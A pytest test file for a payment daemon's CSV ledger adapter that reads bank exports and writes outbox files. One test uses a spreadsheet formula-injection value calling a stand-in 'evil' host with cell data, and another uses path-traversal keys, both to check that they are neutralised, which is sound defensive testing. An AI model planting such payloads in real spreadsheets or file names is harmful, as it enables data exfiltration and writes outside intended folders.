"""Folders: files that are read whole or not at all, and files that are written complete and once."""

from __future__ import annotations

import csv
import io
import os
import threading
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from pathlib import Path

import anyio
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from structlog.testing import capture_logs

from precoro_daemon.adapters.ledgers.cells import ISO, Writing
from precoro_daemon.adapters.ledgers.exports import Export, Format, read_export
from precoro_daemon.adapters.ledgers.outbox import Outbox
from precoro_daemon.adapters.ledgers.rows import RowReader
from precoro_daemon.errors import LedgerMisfit, PermanentError, TemporaryError
from precoro_daemon.payments.ports.ledger import Ledger
from precoro_daemon.values.spreadsheet_cells import restored
from tests.contracts.ledgers.books import entry, found, made, permitted, read_all
from tests.contracts.ledgers.configured import ledger_in

KEYED = Format({"key": "No", "invoice": "Bill", "amount": "Sum", "paid_on": "Day"}, "utf-8-sig", ",")
UNKEYED = Format({"invoice": "Bill", "amount": "Sum", "paid_on": "Day"}, "utf-8-sig", ",")
GERMAN = Writing(decimal_mark=",", grouping=".", day_format="%d.%m.%Y", negate=True)


def read(text: str | bytes, form: Format = KEYED, writing: Writing = ISO) -> Export:
    content = text if isinstance(text, bytes) else text.encode()
    return read_export("bank.csv", content, form, RowReader(writing, currency="EUR"))


def reasons(export: Export) -> list[tuple[str, str]]:
    return [(one.key, one.reason) for one in export.unreadable]


def test_a_good_file():
    export = read('\ufeffDay,No,Bill,Sum,Note\r\n2026-01-31,1,I-1,12.50,"a, b\r\nc"\r\n\r\n2026-02-01,2,I-2,-3,\r\n')
    assert [(one.key, one.invoice, one.amount, one.paid_on, one.currency) for one in export.payments] == [
        ("1", "I-1", Decimal("12.50"), date(2026, 1, 31), "EUR"),
        ("2", "I-2", Decimal(-3), date(2026, 2, 1), "EUR"),
    ]
    assert export.unreadable == []


def test_a_german_bank():
    form = Format({"invoice": "Zweck", "amount": "Betrag", "paid_on": "Tag"}, "cp1252", ";")
    export = read("Tag;Betrag;Zweck\n31.01.2026;-1.234,50;Rechnung Köln\n".encode("cp1252"), form, GERMAN)
    assert [(one.invoice, one.amount) for one in export.payments] == [("Rechnung Köln", Decimal("1234.50"))]


def test_each_bad_row_is_told_with_line_column_value_and_reason():
    export = read(
        "No,Bill,Sum,Day\n1,a,x,2026-01-31\n2,a,1,31.1.26\n,a,1,2026-01-31\n4,a,1\n5,,1,2026-01-31,6\n7,a,1,2026-01-31\n"
    )
    assert [one.key for one in export.payments] == ["7"]
    assert reasons(export) == [
        ("1", "bank.csv:2: amount: 'x' is no plain number, such as 1234.50"),
        ("2", "bank.csv:3: paid_on: '31.1.26' is no date, such as 2026-01-31"),
        ("bank.csv:4", "line 4: key: it is empty"),
        ("4", "bank.csv:5: has 3 cells, but the header has 4"),
        ("5", "bank.csv:6: has 5 cells, but the header has 4"),
    ]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "has no column No, Bill, Sum, Day; it has none"),
        (b"No,Bill,Total,Day\n", "has no column Sum; it has No, Bill, Total, Day"),
        (b"No,Bill,Sum,Day,Sum\n", "has the column Sum more than once; write Sum#1 for the first"),
        (b"No,Bill,Sum,Day\n1,K\xf6ln,1,1\n", "line 2 is not utf-8-sig (byte f6); nothing of the file was read"),
        (b'No,Bill,Sum,Day\n1,"a,1,1\n', "line 2 is no CSV: unexpected end of data; nothing after it was read"),
        (b"No,Bill,Sum,Day\n1,\0,1,2026-01-31\n", None),
        (b"<html></html>", "has no column No, Bill, Sum, Day; it has <html></html>"),
    ],
)  # fmt: skip
def test_a_file_that_is_none(content: bytes, reason: str | None):
    export = read(content)
    if reason:
        assert export.payments == []
        assert reasons(export) == [("bank.csv", f"bank.csv: {reason}")]


def test_everything_wrong_with_a_row_is_told_at_once():
    form = Format(KEYED.columns | {"currency": "Cur"}, "utf-8-sig", ",")
    export = read("No,Bill,Sum,Day,Cur\n1,,x,31.1.26,EURO\n2,a,1,2026-01-31,EURO\n", form)
    code = "currency: 'EURO' is no currency code of three letters, such as EUR"
    amount, day = (
        "amount: 'x' is no plain number, such as 1234.50",
        "paid_on: '31.1.26' is no date, such as 2026-01-31",
    )
    assert reasons(export) == [
        ("1", f"bank.csv:2: invoice: it is empty; {amount}; {code}; {day}"),
        ("2", f"bank.csv:3: {code}"),
    ]


def test_a_row_that_is_there_twice():
    twice = "No,Bill,Sum,Day\n1,a,1,2026-01-31\n1,a,1.00,2026-01-31\n1,a,2,2026-01-31\n"
    export = read(twice)
    assert [one.amount for one in export.payments] == [1]
    assert reasons(export) == [("1", "bank.csv:4: has the key 1 of line 2, but says something else")]
    export = read("Bill,Sum,Day\na,1,2026-01-31\na,1.0,2026-01-31\n", UNKEYED)
    assert len(export.payments) == 1
    assert "is the same as line 2; if both are payments, name a column" in export.unreadable[0].reason


def test_without_a_key_the_same_row_is_the_same_payment_in_any_file_and_form():
    (one,) = read("Bill,Sum,Day\na,1.50,2026-01-31\n", UNKEYED).payments
    form = Format(UNKEYED.columns, "utf-8-sig", ";")
    (other,) = read("Balance;Day;Sum;Bill\n9;31.01.2026;-1,500;a\n", form, GERMAN).payments
    assert one.key == other.key
    (third,) = read("Bill,Sum,Day\na,1.51,2026-01-31\n", UNKEYED).payments
    assert third.key != one.key


@given(st.binary(max_size=200))
def test_whatever_a_file_holds_it_is_read_or_refused(content: bytes):
    read(content)
    read(b"No,Bill,Sum,Day\n" + content)


@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]), max_size=40))
def test_what_goes_out_comes_in(name: str):
    box = Outbox(
        "books", Path(), (), {"No": "{key}", "Bill": "{supplier_name} x", "Sum": "{amount}", "Day": "{paid_on}"}
    )
    content = box._content(entry("k1", supplier_name=name))
    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert restored(row["Bill"]) == f"{name} x"
    (payment,) = read(content).payments
    assert (payment.key, payment.amount) == ("k1", Decimal("12.50"))


def listed(directory: Path) -> list[str]:
    return sorted(path.name for path in directory.iterdir())


@dataclass
class Folders:
    root: Path
    names: list[str] = field(default_factory=list)

    @asynccontextmanager
    async def open(self, more: str = "") -> AsyncIterator[Ledger]:
        text = f'[ledger]\nkind = "csv"\nname = "books"\n[ledger.csv]\nin_directory = "{self.root}/in"\n{more}\n'
        columns = 'columns = { key = "No", invoice = "Bill", amount = "Sum", paid_on = "Day" }\n'
        out = f'out_directory = "{self.root}/out"\nout_done = ["{self.root}/done"]\n'
        async with ledger_in(self.root, text + columns + out) as ledger:
            yield ledger

    def drop(self, name: str, rows: str, age: float = 60.0, end: str = "\n") -> None:
        path = self.root / "in" / name
        path.write_text(f"No,Bill,Sum,Day\n{rows}{end}")
        os.utime(path, (time.time() - age, time.time() - age))


@pytest.fixture
def folders(tmp_path: Path) -> Folders:
    for name in ("in", "out", "done"):
        (tmp_path / name).mkdir()
    return Folders(tmp_path)


@pytest.mark.asyncio
async def test_a_file_is_read_when_nobody_writes_it_any_more(folders: Folders):
    folders.drop("new.csv", "1,a,1,2026-01-31", age=2)
    folders.drop("half.csv", "2,a,12", age=60, end="")
    folders.drop("no-end.csv", "3,a,1,2026-01-31", age=200, end="")
    folders.drop("note.txt", "4,a,1,2026-01-31")
    folders.drop(".hidden.csv", "5,a,1,2026-01-31")
    async with folders.open() as ledger:
        found = await read_all(ledger)
    assert list(found.amounts) == ["3"]
    assert found.unreadable == []


@pytest.mark.parametrize(
    ("content", "whole"),
    [
        (b"PK\x05\x06" + bytes(18), True),
        (b"<Document><Ntry/></Document>", True),
        (b"<camt:Document><Ntry/></camt:Document>", True),
        (b"<Document><Ntry/>", False),
        ("No,Bill,Sum,Day\n".encode("utf-16-le"), True),
        (b"No,Bill,Sum,Day\n1,a", False),
        (b"", False),
    ],
    ids=["excel", "statement", "with a prefix", "half a statement", "utf-16", "half a row", "empty"],
)
@pytest.mark.asyncio
async def test_a_file_that_shows_its_end_is_not_waited_for(folders: Folders, content: bytes, whole: bool):
    folders.drop("one.csv", "")
    path = folders.root / "in" / "one.csv"
    path.write_bytes(content)
    os.utime(path, (time.time() - 60, time.time() - 60))
    async with folders.open() as ledger, ledger.recorded(None) as batches:
        assert bool([batch async for batch in batches]) is whole


@pytest.mark.asyncio
async def test_files_are_remembered_by_what_they_hold(folders: Folders):
    folders.drop("a.csv", "1,a,1,2026-01-31")
    async with folders.open() as ledger:
        position = (await read_all(ledger)).position
        assert (await read_all(ledger, position)).payments == []
        folders.drop("copy.csv", "1,a,1,2026-01-31")
        assert list((await read_all(ledger, position)).amounts) == ["1"]
        folders.drop("a.csv", "1,a,2,2026-01-31")
        changed = await read_all(ledger, position)
        assert changed.amounts["1"] == 2
    async with folders.open() as later:
        assert (await read_all(later, changed.position)).payments == []
        await anyio.Path(folders.root / "in" / "a.csv").unlink()
        await anyio.Path(folders.root / "in" / "copy.csv").unlink()
        folders.drop("b.csv", "2,a,1,2026-01-31")
        read_later = await read_all(later, changed.position)
    assert read_later.position is not None
    assert len(read_later.position.split()) == 2, "what files are read with, and the one file"


@pytest.mark.asyncio
async def test_a_long_file_is_given_in_pieces_and_kept_open_until_its_last(folders: Folders):
    folders.drop("a.csv", "\n".join(f"{number},a,1,2026-01-31" for number in range(1201)))
    async with folders.open() as ledger:
        first = await read_all(ledger, stop_after=2)
        assert first.position is not None
        assert len(first.position.split()) == 1, "what files are read with, and no file yet"
        assert len((await read_all(ledger, first.position)).payments) == 1201


@pytest.mark.asyncio
async def test_other_settings_read_everything_again(folders: Folders):
    """What could not be read may be readable now; what the file had before that could not be read is forgotten."""
    folders.drop("a.csv", "1,a,x1,2026-01-31")
    folders.drop("b.csv", "2,a,1,2026-01-31")
    async with folders.open() as ledger:
        before = await read_all(ledger)
    async with folders.open('currency = "EUR"') as ledger:
        after = await read_all(ledger, before.position)
        again = await read_all(ledger, after.position)
    assert (list(after.amounts), len(after.unreadable), after.undone) == (["2"], 1, ["a.csv", "b.csv"])
    assert (again.payments, again.unreadable) == ([], [])
    async with folders.open("settle = 3") as ledger:
        assert (await read_all(ledger, before.position)).payments == [], "how long to wait says nothing about rows"


@pytest.mark.asyncio
async def test_endings_in_any_case_and_files_that_are_passed_over(folders: Folders):
    folders.drop("UMSATZ.CSV", "1,a,1,2026-01-31")
    folders.drop("umsatz.xls", "2,a,1,2026-01-31")
    with capture_logs() as lines:
        async with folders.open() as ledger:
            assert list((await read_all(ledger)).amounts) == ["1"]
            await read_all(ledger)
    passed_over = [(line["count"], line["files"]) for line in lines if line["event"] == "ledger_files_skipped"]
    assert passed_over == [(1, ["umsatz.xls"])]


@pytest.mark.asyncio
async def test_a_folder_that_is_not_there(folders: Folders):
    await anyio.Path(folders.root / "in").rmdir()
    await anyio.Path(folders.root / "done").rmdir()
    async with folders.open() as ledger:
        with pytest.raises(LedgerMisfit, match=r"in_directory .* is no directory"):
            await read_all(ledger)
        with pytest.raises(LedgerMisfit, match="done is no directory"):
            await ledger.create(entry(), permitted)


@pytest.mark.asyncio
async def test_a_file_that_was_taken_is_not_written_again(folders: Folders):
    async with folders.open() as ledger:
        name = await made(ledger, entry())
        await anyio.Path(folders.root / "out" / name).rename(folders.root / "done" / name)
        assert await made(ledger, entry()) == name
        assert await found(ledger, entry().key) == name
    assert listed(folders.root / "out") == []


@pytest.mark.asyncio
async def test_files_are_for_their_owner_and_a_group_that_was_named(folders: Folders):
    async with folders.open() as ledger:
        name = await made(ledger, entry())
    assert (folders.root / "out" / name).stat().st_mode & 0o777 == 0o600
    group = max(os.getgroups(), default=os.getgid())
    async with folders.open(f'out_group = "{group}"') as ledger:
        status = (folders.root / "out" / await made(ledger, entry("k2"))).stat()
    assert (status.st_mode & 0o777, status.st_gid) == (0o640, group)
    async with folders.open('out_group = "no-such-group"') as ledger:
        with pytest.raises(LedgerMisfit, match="out_group must be a group of the user"):
            await ledger.create(entry("k3"), permitted)
    assert len(listed(folders.root / "out")) == 2


@pytest.mark.asyncio
async def test_no_cell_that_goes_out_is_a_formula_and_numbers_stay_numbers(folders: Folders):
    async with folders.open() as ledger:
        evil = entry(supplier_name='=HYPERLINK("http://evil/?"&A1,"click")', amount="-161.19", invoice_number="@SUM")
        name = await made(ledger, evil)
    with (folders.root / "out" / name).open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert [row[name] for name in ("supplier", "amount", "invoice")] == [
        '\'=HYPERLINK("http://evil/?"&A1,"click")', "-161.19", "'@SUM",
    ]  # fmt: skip


@pytest.mark.asyncio
async def test_of_many_at_the_same_time_the_first_file_stays(folders: Folders):
    """One that took its place could have been taken meanwhile, and would be taken twice."""
    box = Outbox("books", folders.root / "out", (folders.root / "done",), {"key": "{key}"})
    seen: set[int] = set()
    for number in range(30):
        starting = threading.Barrier(4)

        def put(key: str = f"k{number}", starting: threading.Barrier = starting) -> None:
            starting.wait()
            seen.add((folders.root / "out" / box.put(entry(key), lambda: True)).stat().st_ino)

        async with anyio.create_task_group() as group:
            for _ in range(4):
                group.start_soon(anyio.to_thread.run_sync, put)
    assert len(seen) == 30
    assert len(listed(folders.root / "out")) == 30


def test_a_disk_that_takes_longer_than_the_permit_is_good_gets_no_file(folders: Folders):
    box = Outbox("books", folders.root / "out", (folders.root / "done",), {"key": "{key}"})
    with pytest.raises(TemporaryError, match="nothing was written"):
        box.put(entry("k"), lambda: False)
    assert listed(folders.root / "out") == []
    assert box.put(entry("k"), lambda: True) == "k.csv"


@pytest.mark.asyncio
async def test_no_key_leads_out_of_the_folder(folders: Folders):
    async with folders.open() as ledger:
        for key in ("../x", "a/b", ".hidden", "a\0b", "x" * 300, "ü", ""):
            name = await made(ledger, entry(key))
            assert await found(ledger, key) == name
    assert len(listed(folders.root / "out")) == 7
    assert listed(folders.root) == ["config.toml", "done", "in", "out"]


@pytest.mark.asyncio
async def test_the_configured_way_of_writing(folders: Folders):
    more = 'encoding = "cp1252"\ndelimiter = ";"\ndecimal_mark = ","\nday_format = "%d.%m.%Y"'
    async with folders.open(more) as ledger:
        name = await made(ledger, entry(supplier_name="Köln; Nord"))
        with pytest.raises(PermanentError, match="'Ω' cannot be written in cp1252"):
            await ledger.create(entry("k2", supplier_name="Ω"), permitted)
    assert (folders.root / "out" / name).read_bytes().decode("cp1252").splitlines() == [
        "key;invoice;amount;currency;paid_on;supplier",
        f"{entry().key};INV-2026/7 'ü';12,50;EUR;31.01.2026;\"Köln; Nord\"",
    ]
    assert listed(folders.root / "out") == [name]


@pytest.mark.asyncio
@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
async def test_a_folder_one_may_not_write(folders: Folders):
    await anyio.Path(folders.root / "out").chmod(0o500)
    async with folders.open() as ledger:
        with pytest.raises((LedgerMisfit, TemporaryError)):
            await ledger.create(entry(), permitted)


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.decimals("0.001", 10**15, places=3))
def test_every_digit_leaves(amount: Decimal):
    content = Outbox("books", Path(), (), {"Sum": "{amount}"})._content(entry(amount=f"{amount:f}"))
    assert Decimal(content.decode().splitlines()[1]).as_tuple() == amount.as_tuple()
